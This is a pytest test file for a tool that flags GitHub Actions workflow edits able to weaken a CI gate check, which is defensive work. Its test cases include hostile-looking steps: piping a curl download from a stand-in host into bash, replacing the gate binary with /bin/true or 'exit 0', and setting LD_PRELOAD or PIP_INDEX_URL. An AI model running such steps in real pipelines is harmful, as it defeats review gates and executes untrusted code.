from __future__ import annotations

import pytest

from dodcheck.snapshot.memory import MemorySnapshot
from dodcheck.workflows.gate import GateAudit, audit
from dodcheck.workflows.gate_change import weakening_findings

JOB = """\
on: pull_request
jobs:
  gate:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: pip install dodcheck==0.1.0
      - run: dodcheck claims
"""
SHARED = JOB.replace("      - run: dodcheck", "      - run: npm test\n      - run: dodcheck")
CALL = "      - run: dodcheck claims\n"


def audited(text: str) -> GateAudit:
    files = {".github/workflows/ci.yml": text, "tests/pytest.sh": "exit 0\n", "docs/DOD.md": "- [x] words\n"}
    return audit(MemorySnapshot({path: one.encode() for path, one in files.items()}))


def told(before: str, after: str) -> list[str]:
    found = [one.message for one in weakening_findings(audited(before), audited(after))]
    assert all(one.startswith("what `dodcheck claims` finds depends on ") for one in found)
    return [one.removeprefix("what `dodcheck claims` finds depends on ").removesuffix(" from now on") for one in found]


def with_step(text: str, step: str) -> str:
    return text.replace(CALL, f"      - {step}\n{CALL}")


@pytest.mark.parametrize(
    ("step", "said"),
    [
        ("run: cp tools/yes.sh /usr/local/bin/dodcheck", ["what `cp tools/yes.sh /usr/local/bin/dodcheck` does"]),
        ('run: ln -sf /bin/true "$(which dodcheck)"', ["what `ln -sf /bin/true $(which dodcheck)` does"]),
        (
            "run: curl -s https://x.example/a.sh | bash",
            ["what `bash` does", "what `curl -s https://x.example/a.sh` does"],
        ),
        ("uses: someone/cleaner@v1", ["what `someone/cleaner` does"]),
        ("uses: actions/github-script@v8\n        with: {script: x()}", ["what `actions/github-script` does"]),
        ("run: cp good.md docs/DOD.md", ["what `cp good.md docs/DOD.md` does"]),
        ("run: git config url.https://e.insteadOf x", ["what `git config url.https://e.insteadOf x` does"]),
        ("run: git checkout v1 -- docs", ["what `git checkout v… -- docs` does"]),
        ("run: npm ci", ["what `npm ci` does"]),
        ("run: python -c 'import evil'", ["what `python -c import evil` does"]),
    ],
)
def test_a_new_step_before_the_gate_is_told(step: str, said: list[str]) -> None:
    found = told(JOB, with_step(JOB, step))
    assert found == [f"{one} before it in its job" for one in said]


@pytest.mark.parametrize(
    ("step", "said"),
    [
        ("run: pip install dodcheck-helpers", "the package `dodcheck-helpers`"),
        ("run: pip install -r more.txt", "the packages that `more.txt` names"),
        ("run: pip install --upgrade requests==2.1", "the package `requests`"),
        ("run: pip install -e .", "what the code of the repository does before it in its job"),
        ("run: ./tools/prepare", "what the code of the repository does before it in its job"),
        ("run: make build", "what the code of the repository does before it in its job"),
        ('run: echo "PYTHONPATH=$PWD" >> "$GITHUB_ENV"', "the variable `PYTHONPATH`"),
        ('run: cat more.env >> "$GITHUB_ENV"', "variables that a step before it sets"),
        ("run: echo done > docs/DOD.md", "what is written to `docs/DOD.md` before it in its job"),
        ("run: echo exit 0 > /usr/local/bin/dodcheck", "what is written to `/usr/local/bin/dodcheck` before it"),
    ],
)
def test_what_a_new_step_hands_on_is_told(step: str, said: str) -> None:
    found = told(JOB, with_step(JOB, step))
    assert [one[: len(said)] for one in found] == [said]


@pytest.mark.parametrize("name", ["LD_PRELOAD", "PIP_INDEX_URL", "GIT_CONFIG_GLOBAL"])
def test_a_variable_that_decides_is_told(name: str) -> None:
    assert told(JOB, JOB.replace("jobs:", f"env: {{{name}: x}}\njobs:")) == [f"the variable `{name}`"]


def test_another_runner_is_told() -> None:
    assert told(JOB, JOB.replace("ubuntu-latest", "ours")) == ["the runner `ours`"]
    assert told(JOB, JOB.replace("ubuntu-latest", "ubuntu-24.04")) == []


def test_a_command_that_is_added_to_a_step_is_told() -> None:
    after = JOB.replace("run: dodcheck", "run: |\n          install x /usr/bin/git\n          dodcheck")
    assert told(JOB, after) == ["what `install x /usr/bin/git` does before it in its job"]


@pytest.mark.parametrize(
    "after",
    [
        JOB.replace("      - run: pip", "      # the gate\n      - run: pip"),
        JOB.replace("      - run: pip", "      - name: install it\n        run: pip"),
        JOB.replace("@v4", "@v5"),
        JOB.replace("@v4", "@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2"),
        JOB.replace("pip install", "python -m pip install --upgrade pip && pip install"),
        with_step(JOB, "uses: actions/setup-python@v6\n        with: {python-version: '3.13'}"),
        with_step(JOB, "run: echo hello >> $GITHUB_STEP_SUMMARY"),
        with_step(JOB, 'run: \'echo "VERSION=1" >> "$GITHUB_ENV"\''),
        with_step(JOB, "run: git log --oneline -3 > log.txt 2>&1"),
        with_step(JOB, "run: git fetch --depth 1 origin main"),
        with_step(JOB, "run: git config --global --add safe.directory '*'"),
        with_step(JOB, "run: 'dodcheck --version; python --version; pwd'"),
        JOB + "      - run: cp x /usr/local/bin/dodcheck\n",
        JOB + "  other:\n    runs-on: ours\n    steps: [{run: cp x /usr/local/bin/dodcheck}]\n",
        JOB.replace("jobs:", "env: {PYTHONUNBUFFERED: 1, PIP_NO_CACHE_DIR: 1}\njobs:"),
    ],
)
def test_an_honest_edit_of_the_job_is_not_told(after: str) -> None:
    assert told(JOB, after) == []


@pytest.mark.parametrize(
    "after",
    [
        with_step(SHARED, "run: npm run lint"),
        with_step(SHARED, "run: ./tools/prepare"),
        with_step(SHARED, "run: pytest -q"),
        SHARED.replace("npm test", "npm run test"),
    ],
)
def test_where_the_code_of_the_repository_ran_before_more_of_it_is_not_told(after: str) -> None:
    assert told(SHARED, after) == []


def test_what_is_written_out_is_told_where_other_code_ran_before() -> None:
    step = "run: npm run x -- /usr/local/bin/dodcheck"
    assert told(SHARED, with_step(SHARED, step)) == [
        "what `npm run x -- /usr/local/bin/dodcheck` does before it in its job"
    ]


def test_a_newer_version_of_what_was_fetched_before_is_not_told() -> None:
    fetched = with_step(JOB, "run: curl -sSfL https://x.example/tool-1.2.3.tgz -o tool.tgz")
    assert told(fetched, fetched.replace("1.2.3", "1.4.0")) == []
    assert told(fetched, fetched.replace("x.example", "y.example")) == [
        "what `curl -sSfL https://y.example/tool-….tgz -o tool.tgz` does before it in its job"
    ]
